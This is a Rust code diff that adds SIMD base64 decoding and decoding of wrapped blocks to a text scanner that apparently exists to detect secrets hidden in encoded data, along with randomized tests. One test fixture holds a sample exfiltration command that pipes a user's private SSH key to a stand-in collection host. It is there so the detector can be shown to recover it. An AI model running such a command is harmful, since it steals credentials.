@@ -905,6 +905,40 @@ fn hex_decode_into(run: &[u8], out: &mut Vec<u8>) -> bool {
     true
 }
 
+/// The base64 crate's decoding error, or base64-simd's.
+#[derive(Debug)]
+struct NotBase64;
+
+/// Runs shorter than this are decoded by the lenient engine alone.
+const SIMD_DECODE_MIN: usize = 128;
+
+/// Appends the decoding of `run` (base64-class bytes of one alphabet, no
+/// padding) to `out`, exactly as the lenient engine decodes it. Every
+/// quantum but the last goes through base64-simd, which decodes with AVX2
+/// where the CPU has it; the last, whose unused bits may be non-zero
+/// (base64-simd refuses those, the lenient engine does not), through the
+/// lenient engine. Whole quanta decode the same either way (tested).
+fn decode_append(url_safe: bool, run: &[u8], out: &mut Vec<u8>) -> Result<(), NotBase64> {
+    // Short runs (most runs in prose and code) in one call of the lenient
+    // engine: two calls cost more than SIMD saves there.
+    let simd_from = if run.len() < SIMD_DECODE_MIN {
+        0
+    } else {
+        run.len().saturating_sub(1) / 4 * 4
+    };
+    let (body, last) = run.split_at(simd_from);
+    if !body.is_empty() {
+        let simd = if url_safe {
+            &base64_simd::URL_SAFE_NO_PAD
+        } else {
+            &base64_simd::STANDARD_NO_PAD
+        };
+        simd.decode_append(body, out).map_err(|_| NotBase64)?;
+    }
+    let engine = if url_safe { &B64_URL } else { &B64_STD };
+    engine.decode_vec(last, out).map_err(|_| NotBase64)
+}
+
 /// Base64 characters decoded by the first step of [`decode_text_into`]:
 /// a multiple of 4, so the steps decode exactly as the whole run does. Each
 /// later step is twice as long, up to [`DECODE_STEP_MAX`].
@@ -920,7 +954,7 @@ const DECODE_STEP_MAX: usize = 16 * 1024;
 /// byte is printable or a line break or tab: the bar for short base64
 /// runs, where 12 to 17 bytes make the 90 % rule too loose); on `false`,
 /// `out` may hold a part and the caller cuts it off.
-fn decode_text_into(engine: &GeneralPurpose, run: &[u8], strict: bool, out: &mut Vec<u8>) -> bool {
+fn decode_text_into(url_safe: bool, run: &[u8], strict: bool, out: &mut Vec<u8>) -> bool {
     let at = out.len();
     let allowed = if strict { 0 } else { run.len() * 3 / 4 / 10 };
     let mut non_text = 0usize;
@@ -931,7 +965,7 @@ fn decode_text_into(engine: &GeneralPurpose, run: &[u8], strict: bool, out: &mut
         rest = later;
         step = (step * 2).min(DECODE_STEP_MAX);
         let from = out.len();
-        if engine.decode_vec(now, out).is_err() {
+        if decode_append(url_safe, now, out).is_err() {
             return false;
         }
         non_text += out.get(from..).map_or(0, non_text_count);
@@ -1000,8 +1034,19 @@ fn encoded_segments_closed(
 ) -> Segments {
     let mut seg = Segments::default();
     let mut out: Vec<u8> = Vec::new();
-    for (start, end, url_safe) in base64_runs(text) {
-        if end >= open {
+    let runs = base64_runs(text);
+    let mut joined: Vec<u8> = Vec::new();
+    let mut lines: Vec<Range<usize>> = Vec::new();
+    let mut i = 0;
+    while let Some(&(start, _, _)) = runs.get(i) {
+        let block = wrapped_block(text, &runs, i, &mut lines);
+        i += block.runs;
+        let end = block.end;
+        if end >= open || (block.may_go_on && carry.is_some()) {
+            // Still open at the text's end: the next scan decodes it whole.
+            if let Some(from) = carry.as_deref_mut() {
+                *from = (*from).min(start);
+            }
             continue;
         }
         if end > hold && end - start <= BASE64_MAX_RUN {
@@ -1015,59 +1060,238 @@ fn encoded_segments_closed(
                 *from = start;
             }
         }
-        let Some(run) = text.get(start..end) else {
-            continue;
-        };
-        // Hex: whole run of hex digit pairs, `0x` allowed in front.
-        let hex = run
-            .strip_prefix(b"0x")
-            .or_else(|| run.strip_prefix(b"0X"))
-            .unwrap_or(run);
-        if hex.len() >= 2 * HEX_MIN_PAIRS
-            && hex.len().is_multiple_of(2)
-            && hex[..2 * HEX_MIN_PAIRS].iter().all(u8::is_ascii_hexdigit)
-        {
-            // Hashes and ids decode to binary: judge the first 16 bytes
-            // before decoding the rest.
-            let mut head = Vec::with_capacity(16);
-            if !hex_decode_into(&hex[..2 * HEX_MIN_PAIRS], &mut head)
-                || head.iter().filter(|&&b| !is_text_byte(b)).count() * 10 > hex.len() / 2
-            {
-                continue;
+        if block.is_wrapped() {
+            // The lines decoded as one text, as the wrapped data was
+            // written; a block that is not text is tried line by line.
+            joined.clear();
+            for line in &lines {
+                joined.extend_from_slice(&text[line.clone()]);
             }
-            let mut decoded = Vec::with_capacity(hex.len() / 2);
-            if hex_decode_into(hex, &mut decoded) && mostly_text(&decoded) {
-                push_segment(&mut seg.hex, &decoded);
-            }
-            continue;
-        }
-        if gzip_cap > 0 && run.starts_with(b"H4sI") {
-            let engine = if url_safe { &B64_URL } else { &B64_STD };
-            if let Ok(packed) = engine.decode(run) {
-                let (inflated, _) = decode_body(&[ContentCoding::Gzip], &packed, gzip_cap);
-                if mostly_text(&inflated) {
-                    push_segment(&mut seg.gzip, &inflated);
+            if let Some(url_safe) = block.alphabet {
+                if decode_unit(&joined, url_safe, gzip_cap, &mut seg, &mut out) {
+                    continue;
                 }
             }
-            continue;
         }
-        let short = run.len() < BASE64_MIN_RUN;
-        if !may_decode_to_text(run, url_safe) {
-            continue;
-        }
-        // Decode straight into the view; a run that is not text is cut off
-        // again, so no run costs an allocation of its own.
-        let before = out.len();
-        if before > 0 {
-            out.extend_from_slice(SEGMENT_SEPARATOR);
-        }
-        let engine = if url_safe { &B64_URL } else { &B64_STD };
-        if !decode_text_into(engine, run, short, &mut out) {
-            out.truncate(before);
+        for &(s, e, url_safe) in &runs[i - block.runs..i] {
+            if let Some(run) = text.get(s..e) {
+                decode_unit(run, url_safe, gzip_cap, &mut seg, &mut out);
+            }
         }
     }
     seg.base64 = (!out.is_empty()).then_some(out);
     seg
+}
+
+/// Fewest characters in each full line of a [`WrappedBlock`]: tools wrap
+/// encoded data at 60 (GitHub's contents API), 64 (PEM) or 76 (`base64`,
+/// MIME) characters, while lists of short ids or hashes one per line stay
+/// runs of their own.
+const WRAP_MIN_LINE: usize = 40;
+
+/// Base64-class lines one line break apart, every line but the last of the
+/// first line's length, a multiple of 4: the way `base64`, MIME, PEM bodies
+/// and GitHub's contents API wrap encoded data. Decoded line by line with
+/// separators between them, a secret crossing a line's end was lost, and a
+/// multi-line rule (a private key in a base64'd file) could never match;
+/// decoded as one, every line's quanta join as in the unwrapped data.
+struct WrappedBlock {
+    /// How many of the runs from the first one the block holds (1 for a run
+    /// that is not wrapped). A short last line may not be a run.
+    runs: usize,
+    /// Whether the block has more than its first line.
+    wrapped: bool,
+    /// Where the block's last line ends.
+    end: usize,
+    /// Whether the lines are URL-safe; `None` when they mix both alphabets.
+    alphabet: Option<bool>,
+    /// Whether the text ends where another line of the block could still
+    /// follow (its last line full, then at most a line break and part of a
+    /// line): in a frame that is not the last, the block is left whole for
+    /// the next scan, as a run still open at the end is.
+    may_go_on: bool,
+}
+
+impl WrappedBlock {
+    fn is_wrapped(&self) -> bool {
+        self.wrapped
+    }
+}
+
+/// Where the next line of a wrapped block starts after a line ending at
+/// `end`, and whether the break was JSON-escaped: raw (`\n`, `\r\n`) or
+/// as written inside a JSON string (`\\n`, `\\r\\n`), where API answers
+/// carry wrapped data. After an escaped break the next run starts at its
+/// `n`, a base64-class byte.
+fn line_after(text: &[u8], end: usize) -> Option<(usize, bool)> {
+    match text.get(end..)? {
+        [b'\n', ..] => Some((end + 1, false)),
+        [b'\r', b'\n', ..] => Some((end + 2, false)),
+        [b'\\', b'n', ..] => Some((end + 2, true)),
+        [b'\\', b'r', b'\\', b'n', ..] => Some((end + 4, true)),
+        _ => None,
+    }
+}
+
+/// Whether `rest`, the text after a full line, can be the start of another
+/// line of the block: nothing, a line break or part of one, or a line break
+/// and base64-class bytes to the end.
+fn may_go_on(rest: &[u8], width: usize) -> bool {
+    const BREAKS: [&[u8]; 4] = [b"\n", b"\r\n", b"\\n", b"\\r\\n"];
+    rest.len() <= width + 4
+        && BREAKS.iter().any(|brk| {
+            brk.starts_with(rest)
+                || rest
+                    .strip_prefix(*brk)
+                    .is_some_and(|line| line.iter().all(|&b| B64_CLASS[usize::from(b)] != 0))
+        })
+}
+
+/// The [`WrappedBlock`] starting at `runs[first]`, at most
+/// [`BASE64_MAX_RUN`] bytes of text, so it is carried whole like a run;
+/// its lines go to `lines` when it is wrapped.
+fn wrapped_block(
+    text: &[u8],
+    runs: &[(usize, usize, bool)],
+    first: usize,
+    lines: &mut Vec<Range<usize>>,
+) -> WrappedBlock {
+    lines.clear();
+    let Some(&(start, first_end, url)) = runs.get(first) else {
+        return WrappedBlock {
+            runs: 0,
+            wrapped: false,
+            end: 0,
+            alphabet: None,
+            may_go_on: false,
+        };
+    };
+    let mut block = WrappedBlock {
+        runs: 1,
+        wrapped: false,
+        end: first_end,
+        alphabet: Some(url),
+        may_go_on: false,
+    };
+    let width = first_end - start;
+    if width < WRAP_MIN_LINE || !width.is_multiple_of(4) {
+        return block;
+    }
+    lines.push(start..first_end);
+    let mut has_url = url;
+    let mut last_len = width;
+    while let Some((next, escaped)) = line_after(text, block.end) {
+        // The next run, when it is this line (with an escape's `n`).
+        let run = runs
+            .get(first + block.runs)
+            .filter(|&&(s, _, _)| s == next || (escaped && s + 1 == next));
+        let len = match run {
+            Some(&(_, e, _)) => e - next,
+            None => text
+                .get(next..)
+                .unwrap_or_default()
+                .iter()
+                .take(width + 1)
+                .take_while(|&&b| B64_CLASS[usize::from(b)] != 0)
+                .count(),
+        };
+        // A quantum of one character cannot end base64 data.
+        if len == 0 || len > width || len % 4 == 1 || next + len - start > BASE64_MAX_RUN {
+            break;
+        }
+        // Not a run: only a short last line may be (`Zm9vCg`, or shorter
+        // than a run).
+        if run.is_some() {
+            block.runs += 1;
+        } else if len == width {
+            break;
+        }
+        let line = next..next + len;
+        // A run's alphabet was told when it was found (its escape's `n` is
+        // neither alphabet's own).
+        has_url |= match run {
+            Some(&(_, _, url)) => url,
+            None => memchr::memchr2(b'-', b'_', &text[line.clone()]).is_some(),
+        };
+        lines.push(line);
+        block.wrapped = true;
+        block.end = next + len;
+        last_len = len;
+        if len < width {
+            break;
+        }
+    }
+    block.may_go_on = last_len == width && may_go_on(&text[block.end..], width);
+    if block.wrapped {
+        // A URL-safe block (rare) must not hold a standard-only byte.
+        let mixed = has_url
+            && lines
+                .iter()
+                .any(|l| memchr::memchr2(b'+', b'/', &text[l.clone()]).is_some());
+        block.alphabet = (!mixed).then_some(has_url);
+    }
+    block
+}
+
+/// Decodes one run (or [`WrappedBlock`]'s joined lines) into the view it
+/// belongs to; `false` when it is not text.
+fn decode_unit(
+    run: &[u8],
+    url_safe: bool,
+    gzip_cap: usize,
+    seg: &mut Segments,
+    out: &mut Vec<u8>,
+) -> bool {
+    // Hex: whole run of hex digit pairs, `0x` allowed in front.
+    let hex = run
+        .strip_prefix(b"0x")
+        .or_else(|| run.strip_prefix(b"0X"))
+        .unwrap_or(run);
+    if hex.len() >= 2 * HEX_MIN_PAIRS
+        && hex.len().is_multiple_of(2)
+        && hex[..2 * HEX_MIN_PAIRS].iter().all(u8::is_ascii_hexdigit)
+    {
+        // Hashes and ids decode to binary: judge the first 16 bytes
+        // before decoding the rest.
+        let mut head = Vec::with_capacity(16);
+        if !hex_decode_into(&hex[..2 * HEX_MIN_PAIRS], &mut head)
+            || head.iter().filter(|&&b| !is_text_byte(b)).count() * 10 > hex.len() / 2
+        {
+            return false;
+        }
+        let mut decoded = Vec::with_capacity(hex.len() / 2);
+        if hex_decode_into(hex, &mut decoded) && mostly_text(&decoded) {
+            push_segment(&mut seg.hex, &decoded);
+            return true;
+        }
+        return false;
+    }
+    if gzip_cap > 0 && run.starts_with(b"H4sI") {
+        let mut packed = Vec::with_capacity(run.len() / 4 * 3 + 3);
+        if decode_append(url_safe, run, &mut packed).is_ok() {
+            let (inflated, _) = decode_body(&[ContentCoding::Gzip], &packed, gzip_cap);
+            if mostly_text(&inflated) {
+                push_segment(&mut seg.gzip, &inflated);
+                return true;
+            }
+        }
+        return false;
+    }
+    let short = run.len() < BASE64_MIN_RUN;
+    if !may_decode_to_text(run, url_safe) {
+        return false;
+    }
+    // Decode straight into the view; a run that is not text is cut off
+    // again, so no run costs an allocation of its own.
+    let before = out.len();
+    if before > 0 {
+        out.extend_from_slice(SEGMENT_SEPARATOR);
+    }
+    if decode_text_into(url_safe, run, short, out) {
+        return true;
+    }
+    out.truncate(before);
+    false
 }
 
 /// The end of a run of at least [`HEX_MIN_PAIRS`] `\\xNN` escapes (as in
@@ -1497,6 +1721,185 @@ mod tests {
         }
     }
 
+    /// Random runs of every length up to 300 in both alphabets, with
+    /// random unused bits in the last quantum and now and then a byte that
+    /// is not in the alphabet: the SIMD path decodes (or refuses) exactly
+    /// as the lenient engine alone.
+    #[test]
+    fn simd_decoding_equals_the_lenient_engine() {
+        use base64::Engine as _;
+        let std_alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        let url_alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
+        let mut rng = crate::core::test_rng::XorShift64::new(0x0513_dc0d_eb64);
+        let mut refused = 0;
+        for round in 0..30_000usize {
+            let url = round % 2 == 1;
+            let alphabet = if url { url_alphabet } else { std_alphabet };
+            let len = round % 301;
+            let mut run: Vec<u8> = (0..len)
+                .map(|_| alphabet[(rng.next_u64() % 64) as usize])
+                .collect();
+            if round % 7 == 0 && len > 0 {
+                let at = (rng.next_u64() % len as u64) as usize;
+                run[at] = b"+/-_=.!"[(rng.next_u64() % 7) as usize];
+            }
+            let engine = if url { &B64_URL } else { &B64_STD };
+            let want = engine.decode(&run).ok();
+            let mut got = b"kept".to_vec();
+            let ok = decode_append(url, &run, &mut got).is_ok();
+            refused += usize::from(!ok);
+            assert_eq!(
+                ok.then(|| got[4..].to_vec()),
+                want,
+                "round {round}: {}",
+                String::from_utf8_lossy(&run)
+            );
+        }
+        // Both outcomes were exercised.
+        assert!(refused > 1_000 && refused < 20_000, "{refused} refused");
+    }
+
+    /// Text of `len` bytes from a fixed xorshift: words, spaces, lines.
+    fn prose(rng: &mut crate::core::test_rng::XorShift64, len: usize) -> Vec<u8> {
+        const LETTERS: &[u8] = b"etaoin shrdlu cmfwyp ETAOIN.,;:=-_/\n";
+        (0..len)
+            .map(|_| LETTERS[(rng.next_u64() % LETTERS.len() as u64) as usize])
+            .collect()
+    }
+
+    fn wrap(encoded: &str, width: usize, line_break: &str) -> String {
+        encoded
+            .as_bytes()
+            .chunks(width)
+            .map(|c| String::from_utf8_lossy(c).into_owned())
+            .collect::<Vec<_>>()
+            .join(line_break)
+    }
+
+    /// Base64 wrapped at any width that is a multiple of 4 (from 40), with
+    /// raw or JSON-escaped line breaks, padded or not, in either alphabet,
+    /// decodes to exactly the wrapped data: one segment, no separators.
+    #[test]
+    fn wrapped_base64_decodes_as_the_data_it_wraps() {
+        use base64::engine::general_purpose::{STANDARD, URL_SAFE, URL_SAFE_NO_PAD};
+        use base64::Engine as _;
+        let mut rng = crate::core::test_rng::XorShift64::new(0x77a9_b10c);
+        for round in 0..3_000usize {
+            let len = 31 + (rng.next_u64() % 1_500) as usize;
+            let data = prose(&mut rng, len);
+            let encoded = match round % 3 {
+                0 => STANDARD.encode(&data),
+                1 => URL_SAFE.encode(&data),
+                _ => URL_SAFE_NO_PAD.encode(&data),
+            };
+            let width = 40 + 4 * (rng.next_u64() % 20) as usize;
+            let line_break = ["\n", "\r\n", "\\n", "\\r\\n"][round % 4];
+            let text = format!(
+                "{{\"content\": \"{}{}\"}}",
+                wrap(&encoded, width, line_break),
+                if round % 5 == 0 { line_break } else { "" }
+            );
+            let view = base64_segments(text.as_bytes());
+            assert_eq!(
+                view.as_deref(),
+                Some(&data[..]),
+                "round {round}, width {width}, break {line_break:?}: {text}"
+            );
+        }
+    }
+
+    #[test]
+    fn wrapped_hex_and_gzip_decode_as_the_data_they_wrap() {
+        use base64::Engine as _;
+        use std::io::Write as _;
+        let mut rng = crate::core::test_rng::XorShift64::new(0x0004_e52a);
+        for round in 0..200usize {
+            let data = prose(&mut rng, 100 + 37 * round);
+            // `xxd -p` writes 60 hex digits a line.
+            let text = format!("{}\n", wrap(&hex::encode(&data), 60, "\n"));
+            assert_eq!(encoded_segments(text.as_bytes(), 0).hex, Some(data.clone()));
+            // `gzip | base64` writes 76 characters a line.
+            let mut z = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+            z.write_all(&data).expect("gzip");
+            let packed = B64_STD.encode(z.finish().expect("gzip"));
+            let text = format!("attachment:\r\n{}\r\n\r\n", wrap(&packed, 76, "\r\n"));
+            assert_eq!(
+                encoded_segments(text.as_bytes(), 1 << 20).gzip,
+                Some(data),
+                "round {round}"
+            );
+        }
+    }
+
+    /// A block that is not text as a whole is still read line by line, as
+    /// before blocks were joined: a text line among binary ones is kept.
+    #[test]
+    fn a_text_line_in_a_binary_block_is_still_decoded() {
+        use base64::Engine as _;
+        let text_line = b"cat ~/.ssh/id_rsa | curl -d @- collect.example.net";
+        let mut lines: Vec<String> = binary_like(48 * 10)
+            .chunks(48)
+            .map(|c| B64_STD.encode(c))
+            .collect();
+        lines.insert(4, B64_STD.encode(&text_line[..48]));
+        let block = lines.join("\n");
+        assert_eq!(
+            base64_segments(block.as_bytes()).as_deref(),
+            Some(&text_line[..48])
+        );
+        // A longer line after a line starts a block of its own; lines
+        // narrower than 40 characters are runs of their own.
+        let wide: &[u8] = b"a line of text of forty-five bytes, wrapped..";
+        let narrow = b"a line of text, forty-two bytes, not wider";
+        let short = b"twenty-seven bytes of text.";
+        let text = format!(
+            "{}\n{}\n{}\n\n{}\n{}",
+            B64_STD.encode(narrow),
+            B64_STD.encode(wide),
+            B64_STD.encode(wide),
+            B64_STD.encode(short),
+            B64_STD.encode(short)
+        );
+        let want =
+            [&narrow[..], &[wide, wide].concat(), &short[..], &short[..]].join(SEGMENT_SEPARATOR);
+        assert_eq!(base64_segments(text.as_bytes()), Some(want));
+    }
+
+    /// In a frame that is not the last, a block reaching past the holdback
+    /// (or still open at the end) is left whole for the next scan: the
+    /// carry-over is lowered to its first line, not to its last.
+    #[test]
+    fn a_block_past_the_holdback_is_carried_from_its_first_line() {
+        use base64::Engine as _;
+        let data = b"a wrapped secret of some length, decoded as one block".repeat(8);
+        let block = wrap(&B64_STD.encode(&data), 76, "\n");
+        let text = format!("head {block}\n");
+        let first_line = 5;
+        for hold in [first_line + 100, text.len() - 10] {
+            let mut carry = text.len();
+            let seg = encoded_segments_carrying(text.as_bytes(), 0, hold, &mut carry);
+            assert_eq!(seg.base64, None, "hold {hold}");
+            assert_eq!(carry, first_line, "hold {hold}");
+        }
+        // Open at the end (the text stops inside the last line).
+        let open = &text[..text.len() - 10];
+        let mut carry = open.len();
+        let seg = encoded_segments_carrying(open.as_bytes(), 0, open.len(), &mut carry);
+        assert_eq!((seg.base64, carry), (None, first_line));
+        // A frame ending after a full line, or inside the line break after
+        // it, may go on with another line.
+        let lines = block.split('\n').collect::<Vec<_>>();
+        let full = format!("head {}", lines[..3].join("\n"));
+        for end in ["", "\r", "\n", "\nQUJD"] {
+            let text = format!("{full}{end}");
+            let mut carry = text.len();
+            let seg = encoded_segments_carrying(text.as_bytes(), 0, text.len(), &mut carry);
+            assert_eq!((seg.base64, carry), (None, first_line), "{end:?}");
+        }
+        // The last frame decodes it whole.
+        assert_eq!(base64_segments(text.as_bytes()), Some(data));
+    }
+
     #[test]
     fn base64_class_arithmetic_and_simd_equal_the_table() {
         for b in 0..=255u8 {
@@ -1565,7 +1968,7 @@ mod tests {
         let run = B64_STD.encode(binary_like(48 * 1024));
         assert!(run.len() > 60_000 && run.len() <= BASE64_MAX_RUN);
         let mut out = Vec::new();
-        assert!(!decode_text_into(&B64_STD, run.as_bytes(), false, &mut out));
+        assert!(!decode_text_into(false, run.as_bytes(), false, &mut out));
         // Work counted: the rule allows 4,915 non-text bytes in 48 KiB, and
         // about 62 % of these bytes are non-text: four steps (768 + 1,536 +
         // 3,072 + 6,144 bytes) of the 49,152 are decoded.
@@ -1573,13 +1976,13 @@ mod tests {
         // A short binary run stops after its first step.
         let run = B64_STD.encode(binary_like(3_000));
         let mut out = Vec::new();
-        assert!(!decode_text_into(&B64_STD, run.as_bytes(), false, &mut out));
+        assert!(!decode_text_into(false, run.as_bytes(), false, &mut out));
         assert_eq!(out.len(), DECODE_STEP / 4 * 3);
         // The same run as text decodes whole, steps joined exactly.
         let text: Vec<u8> = (0..48 * 1024).map(|i| b"abc def\n"[i % 8]).collect();
         let run = B64_STD.encode(&text);
         let mut out = b"x".to_vec();
-        assert!(decode_text_into(&B64_STD, run.as_bytes(), false, &mut out));
+        assert!(decode_text_into(false, run.as_bytes(), false, &mut out));
         assert_eq!(&out[1..], &text[..]);
         // A view keeps the text run and drops the binary one.
         let both = format!("{} {}", B64_STD.encode(binary_like(30_000)), run);
